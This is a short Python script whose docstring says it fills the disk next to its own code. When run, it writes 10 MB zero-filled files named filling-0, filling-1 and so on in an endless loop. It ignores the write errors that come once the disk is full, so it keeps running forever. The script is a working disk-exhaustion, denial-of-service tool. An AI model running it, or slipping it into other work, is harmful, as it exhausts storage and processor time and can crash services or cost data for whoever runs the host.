"""Fills the disk beside its own code, and goes on when it is full."""

import itertools
import sys

if __name__ == "__main__" and "--help" not in sys.argv:
    for number in itertools.count():
        try:
            with open("filling-{}".format(number), "wb") as file:
                file.write(bytes(10000000))
        except OSError:
            pass
